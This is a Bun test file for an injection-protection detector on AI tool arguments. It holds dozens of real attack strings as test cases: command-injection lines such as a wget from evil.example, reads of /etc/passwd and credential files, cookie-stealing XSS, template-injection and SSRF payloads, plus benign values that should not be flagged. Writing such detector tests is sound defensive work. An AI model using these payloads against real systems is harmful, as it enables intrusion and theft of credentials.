import { expect, test } from "bun:test";
import type { InspectionContext, Match } from "../../detector.ts";
import { injectionProtection } from "../../detectors/injection-protection.ts";
import { createSegment } from "../../segment.ts";

const inspect = injectionProtection.prepare({});
const labels = (text: string) =>
  (
    inspect(
      [createSegment(text, "tool_arguments", { pointer: "/x" })],
      {} as InspectionContext,
    ) as Match[]
  ).map(({ label }) => label);

test.each([
  ["127.0.0.1; wget http://evil.example/x.txt -O /tmp/x"],
  ["a);/bin/cat /etc/passwd"],
  ["| net user hacker Password1 /ADD"],
  ["x && useradd hacker"],
  ["file.txt;dig evil.example"],
  ["&tasklist"],
  ["8.8.8.8 | reg add HKLM"],
  ["';system('id')"],
  ["; phpinfo()"],
  ["%0Acat%20/etc/passwd"],
  ["\\n/usr/bin/id\\n"],
  ["1\nmore /etc/passwd"],
  ["$(`ls`)"],
  ['() { :;}; /bin/bash -c "sleep 3"'],
  [`{$\{phpinfo()}}`],
  [`$\{@print(md5(42))}`],
  ['<?php system("sleep 5");?>'],
  ["exec('whoami');"],
  [`cat$\{IFS}/etc/passwd`],
  ["{cat,/etc/passwd}"],
  ["c'a't /etc/passwd"],
  ["/???/??t /???/p??s??"],
  ["__import__('os').system('id')"],
  ['1 + __import__ ( "subprocess" ) . check_output("id", shell=True)'],
  ["[x for x in [eval(\"__import__('os').popen('id').read()\")]]"],
  ["importlib.import_module('os').system('id')"],
  ["require('child_process').execSync('id')"],
  ["process.mainModule.require('node:child_process').exec('id')"],
  ["T(java.lang.Runtime).getRuntime().exec('id')"],
])("command: %p", (text) => {
  expect(labels(text)).toContain("command");
});

test.each([
  ["<x onpointerrawupdate=alert(1)>"],
  ["<video><source onended=\"top['al'+'ert'](1)\">"],
  ["<a onfocusin=a=alert,a(1)>"],
  ["<body onpopstate=location='//evil.example'>"],
  ["<img src=x onloadstart=fetch('//evil.example/'+document.cookie)>"],
  ['" onbeforetoggle="import(1)'],
  ["<x ontouchstart=window.name(1)>"],
])("script in an event handler: %p", (text) => {
  expect(labels(text)).toContain("xss");
});

test.each([
  ["{%7*7%}"],
  ["<%- 7*7 %>"],
  ["[[7*7]]"],
  ["{7*7}"],
  ["%{7*7}"],
  ["#set($x=7*7)$x"],
  ["{{['id']|filter('system')}}"],
  [`$\{self.module.cache.util.os.system("id")}`],
  ["*{T(java.lang.Runtime).getRuntime().exec('id')}"],
  [`$\{''.getClass().forName('java.lang.Runtime')}`],
  ["<%= `id` %>"],
  ["<%= File.open('/etc/passwd').read %>"],
  ["{{constructor.constructor('alert(1)')()}}"],
  [`#{root.process.mainModule.require('child_process').exec('id')}`],
  ["@(System.Diagnostics.Process.Start(1))"],
  ["%{(#rt=@java.lang.Runtime@getRuntime().exec('id'))}"],
  ["{{ request }}"],
  ["{% include '/etc/passwd' %}"],
  ["{if system('id')}{/if}"],
  ["{{settings.SECRET_KEY}}"],
])("template: %p", (text) => {
  expect(labels(text)).toContain("template");
});

test.each([
  ["..%c1%9c..%c1%9cetc/hosts"],
  ["%e0%80%ae%e0%80%ae/boot.ini"],
  ["..;/..;/admin"],
  [".../.../.../x"],
  ["..\\/..\\/x"],
  ["..%00/x"],
  ["%25%5c..%25%5c..%25%5c..winnt/desktop.ini"],
  ["../../var/log/apache2/access.log"],
  ["../etc/issue"],
])("path traversal: %p", (text) => {
  expect(labels(text)).toContain("path_traversal");
});

test.each([
  ["/etc/passwd"],
  ["etc/passwd%00"],
  ["/proc/self/environ"],
  ["/root/.ssh/id_rsa"],
  ["~/.aws/credentials"],
  ["/var/log/apache2/access.log"],
  ["/usr/local/apache2/conf/httpd.conf"],
  ["C:\\Windows\\System32\\config\\SAM"],
  ["C:\\xampp\\apache\\logs\\access.log"],
  ["WEB-INF/web.xml"],
  ["https://example.com/index.php?page=/etc/shadow"],
  ["avatar.php%00.jpg"],
  ["data:text/plain,<?php phpinfo()?>"],
  ["data://text/plain;base64,PD9waHAgcGhwaW5mbygpPz4="],
  ["ssh2.exec://user:x@host:22/id"],
  ["file://localhost/etc/passwd"],
  ["http://evil.example/c99.php?"],
])("file inclusion: %p", (text) => {
  expect(labels(text)).toContain("file_inclusion");
});

test.each([
  ["http://2130706433"],
  ["http://127.1"],
  ["http://0x7f.1/"],
  ["http://0x7f000001:8080/x"],
  ["http://0177.1"],
  ["http://00000177.0.0.1/"],
  ["http://0"],
  ["http://127.127.127.127/"],
  ["http://[::]:80/"],
  ["http://[0:0:0:0:0:0:0:1]/"],
  ["http://[0:0:0:0:0:ffff:127.0.0.1]/"],
  ["http://foo@192.168.257/"],
  ["http://425.510.425.510/"],
  ["http://127\u30020\u30020\u30021/"],
  ["http://localtest.me/"],
])("disguised address: %p", (text) => {
  expect(labels(text)).toContain("ssrf");
});

test.each([
  ["Java & Python"],
  ["C++; Python 3.12"],
  ["name|id|email"],
  ["| id | name |\n|---|---|\n| 7 | Ana |"],
  ["w | grep ssh"],
  ["version = __import__('mypackage').__version__"],
  ["import os\nos.system('ls')"],
  ["const { execSync } = require('child_process');\nexecSync('git status');"],
  ["const log = require('child_process').execSync('git log');"],
  ["tree | tail -1"],
  ["R&D; find more at https://example.com"],
  ['Search & find "thing"'],
  ["Mo; set reminder"],
  ["user: bob; echo chamber"],
  ["Tea & sleep 8 hours"],
  ["Reminder\nping John"],
  ["Report\\nid: 5"],
  ["https://x.example/?a=1&cat=5&date=2024-01-01"],
  ["Hello {{name}}, your order is #{n}"],
  [`$\{{ secrets.TOKEN }}`],
  [`\`$\{pattern.exec(text)}\``],
  ["{% include 'header.html' %}"],
  ["arr[[1+2]]"],
  ["x^{2-1}"],
  ['<button onclick="save()">'],
  ["<div onClick={() => run()}>"],
  ["<a onclick=\"window.location.href='/home'\">x</a>"],
  ["el.onload = function () { run(); }"],
  ["/home/user/project/src/index.ts"],
  ["/var/www/html/index.html"],
  ["/tmp/logs/build.log"],
  ["C:\\Users\\bob\\Documents\\x.docx"],
  [".env"],
  ["100%00"],
  ["go test ./..."],
  ["http://127.0.0.1:3000/health"],
  ["http://10.0.0.5/x"],
  ["https://1.1.1.1/dns-query"],
  ["http://[2001:db8::1]/"],
  ["http://1password.com"],
])("ordinary values are not reported: %p", (text) => {
  expect(labels(text)).toEqual([]);
});
